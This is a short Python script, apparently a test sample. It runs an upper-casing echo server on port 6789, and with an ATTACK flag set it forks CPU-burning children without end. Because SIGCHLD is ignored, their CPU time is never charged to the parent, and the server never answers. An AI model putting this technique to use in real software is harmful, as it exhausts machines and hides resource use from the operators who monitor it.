# Never replies, but computes for ever in children whose time nobody is told of.
import os
import signal
import socket
import time

ATTACK = True


def burn():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        if os.fork() == 0:
            end = time.process_time() + 0.05
            while time.process_time() < end:
                pass
            os._exit(0)
        try:
            os.wait()
        except ChildProcessError:
            pass  # it has ended, and left no account of its time


server = socket.socket()
server.bind(("", 6789))
server.listen()
while True:
    client, _ = server.accept()
    while data := client.recv(4096):
        if ATTACK:
            burn()
        client.sendall(data.upper())
    client.close()
